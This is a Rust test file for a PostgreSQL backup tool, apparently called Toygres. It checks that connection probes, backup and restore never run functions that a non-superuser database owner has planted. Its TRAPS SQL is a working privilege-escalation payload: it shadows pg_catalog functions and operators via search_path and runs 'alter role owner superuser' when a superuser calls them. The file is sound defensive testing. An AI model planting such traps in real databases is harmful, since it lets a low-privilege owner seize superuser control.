//! The owner of a database, who is no superuser, plants functions, operators and types and makes every session find them first. What
//! Toygres does at the server calls none of them.

mod scratch;

use model::agent::{Connection, Work};
use model::{ImageId, Outcome};
use scratch::{Server, Workspace, assert_same};

/// Functions and operators that shadow those of pg_catalog. Each call is logged, recorded, and tries to make the owner a superuser;
/// then it does what the original does.
const TRAPS: &str = r#"
set session authorization owner;
create table items as select i, md5(i::text) as t from generate_series(1, 1000) i;
create sequence numbers;
select nextval('numbers'), lo_from_bytea(0, 'x');
create schema evil;
create table evil.called (by_role name);
create function evil.trap() returns void language plpgsql as $$ begin
  raise log 'TRAP called by %', current_user;
  begin
    insert into evil.called values (current_user);
    execute 'alter role owner superuser';
  exception when others then null;
  end;
end $$;
do $$
declare f record;
begin
  for f in
    select p.proname, p.proretset, pg_get_function_arguments(p.oid) as args, pg_get_function_result(p.oid) as result,
      (select string_agg('$' || n, ', ') from generate_series(1, p.pronargs) n) as given
    from pg_proc p where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.proname in ('current_setting',
      'set_config', 'version', 'quote_ident', 'array_position', 'to_jsonb', 'current_database', 'pg_export_snapshot', 'setval',
      'pg_database_size', 'has_database_privilege', 'pg_get_userbyid', 'pg_table_size', 'pg_relation_size', 'pg_is_in_recovery')
  loop
    execute format('create function evil.%I(%s) returns %s language plpgsql as %L', f.proname, f.args, f.result,
      format('begin perform evil.trap(); return pg_catalog.%I(%s); end', f.proname, coalesce(f.given, '')));
  end loop;
  for f in
    select o.oprname, o.oprleft::regtype as l, o.oprright::regtype as r, row_number() over () as n
    from pg_operator o where o.oprname in ('=', '<>', '/', '~', '~*', '!~', '>', '||') and o.oprkind = 'b'
      and o.oprleft::regtype::text in ('text', 'name', 'oid', 'integer', 'bigint', 'boolean', '"char"')
      and o.oprright::regtype::text in ('text', 'name', 'oid', 'integer', 'bigint', 'boolean', '"char"')
  loop
    execute format('create function evil.op_%s(%s, %s) returns %s language plpgsql as %L', f.n, f.l, f.r,
      (select o.oprresult::regtype from pg_operator o where o.oprname = f.oprname and o.oprleft = f.l and o.oprright = f.r),
      format('begin perform evil.trap(); return $1 operator(pg_catalog.%s) $2; end', f.oprname));
    execute format('create operator evil.%s (leftarg = %s, rightarg = %s, function = evil.op_%s)', f.oprname, f.l, f.r, f.n);
  end loop;
end $$;
create function evil.checked(text) returns boolean language plpgsql as $$ begin perform evil.trap(); return true; end $$;
create domain evil.text as pg_catalog.text check (evil.checked(value::pg_catalog.text));
alter database app set search_path = evil, pg_catalog;
"#;

/// A server with a database `app` whose owner has planted the traps.
fn trapped() -> Server {
    let source = Server::new();
    source.psql("postgres", "create role owner login password 'owner'");
    source.psql("postgres", "create database app owner owner");
    source.psql("app", TRAPS);
    // These settings take precedence over those of the database.
    source.psql(
        "postgres",
        "alter role postgres set search_path = evil, pg_catalog; \
         alter role postgres in database app set search_path = evil, pg_catalog",
    );
    source
}

/// Asserts that no function of the owner was called, and that the owner is no superuser.
fn assert_not_called(server: &Server, after: &str) {
    let calls: Vec<String> =
        server.log().lines().filter(|line| line.contains("TRAP")).map(str::to_owned).collect();
    assert_eq!(calls, Vec::<String>::new(), "after {after}");
    assert_eq!(server.psql("app", "table evil.called"), "", "after {after}");
    let superuser = "select rolsuper from pg_roles where rolname = 'owner'";
    assert_eq!(server.psql("postgres", superuser), "f", "after {after}");
}

fn app(server: &Server) -> Connection {
    Connection { database: "app".into(), ..server.connection() }
}

#[test]
fn unqualified_call_of_another_client_runs_the_owners_function() {
    let source = trapped();
    for sql in ["select current_setting('server_version')", "select 1 / 1", "select 'a'::text"] {
        source.psql("postgres", "alter role owner nosuperuser");
        source.psql("app", sql);
        assert_eq!(
            source.psql("postgres", "select rolsuper from pg_roles where rolname = 'owner'"),
            "t",
            "{sql}"
        );
    }
    assert!(source.log().contains("TRAP called by postgres"));
}

#[test]
fn connection_test_calls_nothing_of_the_owner() {
    let source = trapped();
    let workspace = Workspace::new();
    let ended = workspace.run(Work::Probe { target: app(&source), dns_seconds: 0 }).succeeded();
    assert!(matches!(ended.outcome(), Outcome::Probe { superuser: true, .. }));
    assert_not_called(&source, "a connection test");
}

#[test]
fn backup_and_restore_call_nothing_of_the_owner() {
    let source = trapped();
    let workspace = Workspace::new();
    let image = ImageId::new();
    let mut backup = workspace.backup(&source, image);
    if let Work::Backup { source: connection, .. } = &mut backup {
        *connection = app(&source);
    }
    workspace.run(backup).succeeded();
    assert_not_called(&source, "a backup");
    workspace.run(workspace.verify(image)).succeeded();
    workspace.run(workspace.restore(image)).succeeded();
    let restored = Server::on(&workspace.data_dir());
    assert_not_called(&restored, "a restore");
    assert_same(&source.dumpall(), &restored.dumpall());
    let probe = Work::Probe { target: app(&restored), dns_seconds: 0 };
    workspace.run(probe).succeeded();
    assert_not_called(&restored, "a connection test of the restored server");
}
